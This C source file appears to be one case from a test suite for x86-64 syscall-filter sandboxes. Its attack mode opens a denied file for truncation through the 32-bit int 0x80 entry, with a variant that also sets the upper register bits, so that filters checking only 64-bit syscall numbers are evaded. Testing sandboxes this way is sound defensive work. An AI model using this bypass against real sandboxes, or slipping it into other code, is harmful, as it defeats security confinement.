// SPDX-License-Identifier: GPL-2.0-only
/*
 * Claim: what is denied by its 64-bit number is denied by its 32-bit number
 * too (catalogue C2), whatever the upper halves of its registers hold (A18).
 *
 *	int $0x80 with eax = 5 is the i386 table's open, also in a 64-bit
 *	process; 5 in the 64-bit table is fstat.
 *
 * Of the name's address the kernel takes the lower half: the variant
 * wide-pointer has another address in the register, where nothing is mapped.
 *
 * The denied act is to open for truncation, which filters on registers can tell
 * too; its twin appends. It does so by the plain 64-bit open, because refusing
 * foreign calling conventions altogether is a sound defence. A win replaces the
 * content of the denied file by the run's nonce.
 */
#include "attack.h"

#include <signal.h>

#ifndef __x86_64__
#error "int80-compat means something on x86-64 only"
#endif

#define I386_OPEN 5

static void no_gate(int number)
{
	static const char message[] = "SKIP this kernel has no int 0x80\n";

	(void)number;
	if (write(STDOUT_FILENO, message, sizeof(message) - 1) < 0)
		_exit(EXIT_BROKEN);
	_exit(EXIT_UNSUPPORTED);
}

static long open_by_int80(uintptr_t name, int flags)
{
	long result = I386_OPEN;

	__asm__ volatile("int $0x80"
			 : "+a"(result)
			 : "b"(name), "c"((long)flags), "d"(0l)
			 : "memory", "r8", "r9", "r10", "r11");
	return (int)result;
}

static void attack(struct run *run)
{
	uintptr_t upper = strcmp(run->variant, "plain") ? 0x7ead00000000ul : 0;
	char *low = mmap(NULL, PATH_MAX, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	long fd;

	if (low == MAP_FAILED || strlen(run->denied) >= PATH_MAX)
		broken("no room below 4 GiB: %s", strerror(errno));
	strcpy(low, run->denied);
	signal(SIGSEGV, no_gate);
	fd = open_by_int80((uintptr_t)low | upper, O_WRONLY | O_TRUNC);
	signal(SIGSEGV, SIG_DFL);
	errno = fd < 0 ? (int)-fd : 0;
	run->attempts = 1;
	run_opened_to_write(run, fd < 0 ? -1 : (int)fd);
}

int main(int argc, char **argv)
{
	struct run run = run_begin(argc, argv);

	switch (run.mode) {
	case MODE_BENIGN:
		run_plain_write(&run, run.allowed, O_APPEND);
		break;
	case MODE_DIRECT:
		run_plain_write(&run, run.denied, O_TRUNC);
		break;
	case MODE_ATTACK:
		attack(&run);
		break;
	}
	run_end(&run);
}
